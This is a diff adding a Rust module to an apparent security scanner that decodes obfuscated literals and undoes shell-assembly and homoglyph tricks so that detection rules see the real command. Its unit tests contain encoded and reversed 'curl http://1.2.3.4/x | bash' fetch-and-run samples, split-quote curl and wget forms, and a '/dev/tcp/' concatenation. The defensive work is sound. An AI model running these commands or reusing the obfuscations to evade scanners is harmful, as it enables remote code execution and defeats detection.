@@ -1,0 +1,256 @@
+//! Undoing the hiding (SEC-4): encoded literals decoded (base64, hex, `\x`
+//! escapes, char codes, reversed strings) and text with its assembly undone
+//! (concatenations joined, shell variables and quote tricks resolved,
+//! homoglyphs folded, tag characters revealed), so the same rules read what
+//! would actually run. Runs only on files where a rule saw decoding or
+//! assembly, so clean text pays nothing.
+
+use std::collections::HashMap;
+use std::sync::LazyLock;
+
+use base64::Engine;
+use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
+use regex::{Captures, Regex};
+
+fn regex(pattern: &str) -> Regex {
+    Regex::new(pattern).expect("reveal regexes compile")
+}
+
+static BASE64: LazyLock<Regex> = LazyLock::new(|| regex(r"[A-Za-z0-9+/_-]{20,}={0,2}"));
+static HEX: LazyLock<Regex> = LazyLock::new(|| regex(r"\b(?:[0-9a-fA-F]{2}){10,}\b"));
+static ESCAPES: LazyLock<Regex> =
+    LazyLock::new(|| regex(r"(?:\\x[0-9a-fA-F]{2}|\\u00[0-9a-fA-F]{2}|\\[0-7]{3}){4,}"));
+static CHAR_CODES: LazyLock<Regex> = LazyLock::new(|| {
+    regex(r"(?i)(?:fromCharCode\(|chr\(|\[char\]\s*|\[|,)\s*\d{2,3}\s*(?:\)|,|\]|\+)")
+});
+static NUMBER: LazyLock<Regex> = LazyLock::new(|| regex(r"\d{2,3}"));
+static REVERSED: LazyLock<Regex> = LazyLock::new(|| {
+    regex(
+        r#"(['"])([^'"\n]{8,})['"]\s*(?:\[::-1\]|\.split\(\s*['"]{2}\s*\)\.reverse\(\)\.join\(\s*['"]{2}\s*\))"#,
+    )
+});
+
+const STANDARD: GeneralPurpose = GeneralPurpose::new(
+    &base64::alphabet::STANDARD,
+    GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent),
+);
+const URL_SAFE: GeneralPurpose = GeneralPurpose::new(
+    &base64::alphabet::URL_SAFE,
+    GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent),
+);
+
+/// Readable text, or nothing: decoded bytes count only when they are
+/// mostly printable.
+fn readable(bytes: Vec<u8>) -> Option<String> {
+    let text = String::from_utf8(bytes).ok()?;
+    let printable = text
+        .chars()
+        .filter(|c| !c.is_control() || c.is_whitespace())
+        .count();
+    (text.len() >= 8 && printable * 10 >= text.chars().count() * 9).then_some(text)
+}
+
+/// Every encoded literal of `text` that decodes to readable text:
+/// (0-based line, decoded text).
+pub fn decoded_literals(text: &str) -> Vec<(usize, String)> {
+    let mut out = Vec::new();
+    for (number, line) in text.lines().enumerate() {
+        for found in BASE64.find_iter(line) {
+            let token = found.as_str().trim_end_matches('=');
+            if token.bytes().all(|b| b.is_ascii_hexdigit()) {
+                continue;
+            }
+            let decoded = STANDARD
+                .decode(token)
+                .or_else(|_| URL_SAFE.decode(token))
+                .ok()
+                .and_then(readable);
+            out.extend(decoded.map(|d| (number, d)));
+        }
+        for found in HEX.find_iter(line) {
+            let bytes = hex_bytes(found.as_str());
+            out.extend(readable(bytes).map(|d| (number, d)));
+        }
+        for found in ESCAPES.find_iter(line) {
+            let bytes = escape_bytes(found.as_str());
+            out.extend(readable(bytes).map(|d| (number, d)));
+        }
+        if CHAR_CODES.find_iter(line).count() >= 4 {
+            let text: String = NUMBER
+                .find_iter(line)
+                .filter_map(|n| n.as_str().parse::<u8>().ok())
+                .filter(|n| (9..127).contains(n))
+                .map(char::from)
+                .collect();
+            out.extend(readable(text.into_bytes()).map(|d| (number, d)));
+        }
+        for found in REVERSED.captures_iter(line) {
+            out.push((number, found[2].chars().rev().collect()));
+        }
+    }
+    out
+}
+
+fn hex_bytes(hex: &str) -> Vec<u8> {
+    hex.as_bytes()
+        .chunks(2)
+        .filter_map(|pair| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok())
+        .collect()
+}
+
+fn escape_bytes(escapes: &str) -> Vec<u8> {
+    escapes
+        .split('\\')
+        .filter(|part| !part.is_empty())
+        .filter_map(|part| match part.as_bytes()[0] {
+            b'x' => u8::from_str_radix(part.get(1..3)?, 16).ok(),
+            b'u' => u8::from_str_radix(part.get(3..5)?, 16).ok(),
+            _ => u8::from_str_radix(part.get(..3)?, 8).ok(),
+        })
+        .collect()
+}
+
+static CONCAT: LazyLock<Regex> = LazyLock::new(|| {
+    regex(
+        r#"(?:(?:'[^'\n]*'|"[^"\n]*"|\$?\b[A-Za-z_]\w*\b)(?:\s*\+\s*|\s+\.\s+))+(?:'[^'\n]*'|"[^"\n]*"|\$?\b[A-Za-z_]\w*\b)"#,
+    )
+});
+static TOKEN: LazyLock<Regex> =
+    LazyLock::new(|| regex(r#"'([^'\n]*)'|"([^"\n]*)"|\$?\b([A-Za-z_]\w*)\b"#));
+static ASSIGNMENT: LazyLock<Regex> = LazyLock::new(|| {
+    regex(
+        r#"(?m)(?:^|;)\s*(?:(?:let|const|var|set|local|export)\s+)?\$?([A-Za-z_]\w*)\s*=\s*(?:'([^'\n]{1,60})'|"([^"\n]{1,60})"|([^\s'";]{1,60}))"#,
+    )
+});
+static SHELL_VAR: LazyLock<Regex> =
+    LazyLock::new(|| regex(r"\$\{([A-Za-z_]\w*)\}|\$([A-Za-z_]\w*)"));
+static QUOTE_SPLIT: LazyLock<Regex> = LazyLock::new(|| regex(r#"(\w)(?:''|""|\$@|\\)([a-z])"#));
+static QUOTED_LETTERS: LazyLock<Regex> = LazyLock::new(|| regex(r"(\w)'(\w{1,3})'(\w)"));
+
+/// `text` with its assembly undone, line for line.
+#[cfg(test)]
+pub fn normalize(text: &str) -> String {
+    normalize_with(text, text)
+}
+
+/// `text` with its assembly undone, line for line, taking variable values
+/// from the assignments in `whole` (the file `text` comes from).
+pub fn normalize_with(text: &str, whole: &str) -> String {
+    let folded: String = text.chars().filter_map(fold).collect();
+    let whole: String = whole.chars().filter_map(fold).collect();
+    let values: HashMap<String, String> = ASSIGNMENT
+        .captures_iter(&whole)
+        .map(|c| {
+            let value = c
+                .get(2)
+                .or(c.get(3))
+                .or(c.get(4))
+                .map_or("", |m| m.as_str());
+            (c[1].to_owned(), value.to_owned())
+        })
+        .collect();
+    let substituted = SHELL_VAR.replace_all(&folded, |c: &Captures| {
+        let name = c.get(1).or(c.get(2)).map_or("", |m| m.as_str());
+        match name {
+            "IFS" => " ".to_owned(),
+            _ => values.get(name).cloned().unwrap_or_else(|| c[0].to_owned()),
+        }
+    });
+    let joined = CONCAT.replace_all(&substituted, |c: &Captures| {
+        let whole = &c[0];
+        if !whole.contains('\'') && !whole.contains('"') {
+            return whole.to_owned();
+        }
+        let mut out = String::new();
+        for token in TOKEN.captures_iter(whole) {
+            if let Some(literal) = token.get(1).or(token.get(2)) {
+                out.push_str(literal.as_str());
+            } else if let Some(name) = token.get(3) {
+                out.push_str(values.get(name.as_str()).map_or(name.as_str(), |v| v));
+            }
+        }
+        format!("\"{out}\"")
+    });
+    // `c\u\r\l` needs a pass per overlapping pair.
+    let mut text = QUOTED_LETTERS.replace_all(&joined, "$1$2$3").into_owned();
+    for _ in 0..3 {
+        text = QUOTE_SPLIT.replace_all(&text, "$1$2").into_owned();
+    }
+    text
+}
+
+/// One character as it reads: tag characters revealed, zero-width ones
+/// dropped, homoglyphs and full-width forms folded to ASCII.
+fn fold(c: char) -> Option<char> {
+    let code = c as u32;
+    Some(match code {
+        0xE0020..=0xE007E => char::from_u32(code - 0xE0000)?,
+        0xE0000..=0xE007F | 0x200B..=0x200D | 0x2060..=0x2064 | 0xFEFF | 0x180E => return None,
+        0xFF01..=0xFF5E => char::from_u32(code - 0xFEE0)?,
+        _ => match c {
+            'а' | 'α' => 'a',
+            'е' | 'ε' => 'e',
+            'о' | 'ο' | 'σ' => 'o',
+            'р' | 'ρ' => 'p',
+            'с' | 'ϲ' => 'c',
+            'у' | 'γ' => 'y',
+            'х' | 'χ' => 'x',
+            'і' | 'ι' => 'i',
+            'ј' => 'j',
+            'ѕ' => 's',
+            'ԁ' => 'd',
+            'һ' => 'h',
+            'ⅼ' | 'ӏ' => 'l',
+            'ν' => 'v',
+            'А' | 'Α' => 'A',
+            'В' | 'Β' => 'B',
+            'Е' | 'Ε' => 'E',
+            'К' | 'Κ' => 'K',
+            'М' | 'Μ' => 'M',
+            'Н' | 'Η' => 'H',
+            'О' | 'Ο' => 'O',
+            'Р' | 'Ρ' => 'P',
+            'С' => 'C',
+            'Т' | 'Τ' => 'T',
+            'Х' | 'Χ' => 'X',
+            _ => c,
+        },
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn literals_decode() {
+        let text = "x = 'Y3VybCBodHRwOi8vMS4yLjMuNC94IHwgYmFzaA=='\ny = '\\x63\\x75\\x72\\x6c\\x20\\x68\\x74\\x74\\x70'\nz = String.fromCharCode(99,117,114,108,32,104,116,116,112)\nw = 'hsab | x/4.3.2.1//:ptth lruc'[::-1]\n";
+        let decoded = decoded_literals(text);
+        assert!(decoded.contains(&(0, "curl http://1.2.3.4/x | bash".to_owned())));
+        assert!(decoded.contains(&(1, "curl http".to_owned())));
+        assert!(decoded.iter().any(|(l, d)| *l == 2 && d == "curl http"));
+        assert!(decoded.contains(&(3, "curl http://1.2.3.4/x | bash".to_owned())));
+    }
+
+    #[test]
+    fn hashes_are_not_text() {
+        let sha = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
+        assert!(decoded_literals(sha).is_empty());
+    }
+
+    #[test]
+    fn assembly_is_undone() {
+        assert_eq!(normalize("c''url x | b\"\"ash"), "curl x | bash");
+        assert_eq!(
+            normalize("w'g'et x; a=cu; b=rl; $a$b"),
+            "wget x; a=cu; b=rl; curl"
+        );
+        assert_eq!(normalize("cmd = 'cu' + 'rl'"), "cmd = \"curl\"");
+        assert_eq!(normalize("a=cu\nb=rl\n$a$b x"), "a=cu\nb=rl\ncurl x");
+        assert_eq!(normalize("сurl"), "curl");
+        assert_eq!(
+            normalize("p = '/dev/' + 'tcp/' + host"),
+            "p = \"/dev/tcp/host\""
+        );
+    }
+}
